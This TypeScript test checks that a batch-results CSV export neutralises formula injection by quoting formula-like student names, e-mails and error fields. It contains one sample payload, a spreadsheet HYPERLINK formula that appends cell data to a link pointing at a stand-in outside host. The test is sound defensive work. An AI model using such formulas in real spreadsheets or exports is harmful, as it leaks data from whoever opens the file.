import type { Batch, BatchItem } from '@argumenta/contracts';
import { runMigrations } from '@argumenta/platform';
import { closeTestPool, testPool } from '@argumenta/testkit';
import { MIGRATIONS_DIR } from '../src/index.js';
import { batchCsv } from '../src/domain/batch/export.js';
import type { BatchDeps } from '../src/domain/batch/batches.js';

// CSV formula injection (issue 44): the batch results a teacher downloads write a student named like a formula as text.
beforeAll(() => runMigrations(testPool(), 'essay', MIGRATIONS_DIR));
afterAll(closeTestPool);

const item = (numero: number, nome: string, email: string): BatchItem => ({
  ordem: numero,
  origem: `linha ${numero + 1}`,
  aluno: { id: numero, nome, email, numero },
  status: 'falhou',
  redacao_id: null,
  nota_total: null,
  erro: '-',
  posicao_fila: null,
  espera_estimada_s: null,
});

it('the batch results CSV writes formula-like names, e-mails and errors as text', async () => {
  const batch = {
    id: 1,
    itens: [item(1, '=HYPERLINK("http://x.example/?"&C2,"Nota")', '@x@escola.com'), item(2, 'Ana', 'ana@escola.com')],
  } as Batch;
  const lines = (await batchCsv({ pool: testPool() } as BatchDeps, batch)).replace(/^\uFEFF/, '').split('\r\n');
  expect(lines[1]).toBe(`1;"'=HYPERLINK(""http://x.example/?""&C2,""Nota"")";'@x@escola.com;falhou;;;;;;;;linha 2;'-`);
  expect(lines[2]).toBe(`2;Ana;ana@escola.com;falhou;;;;;;;;linha 3;'-`);
});
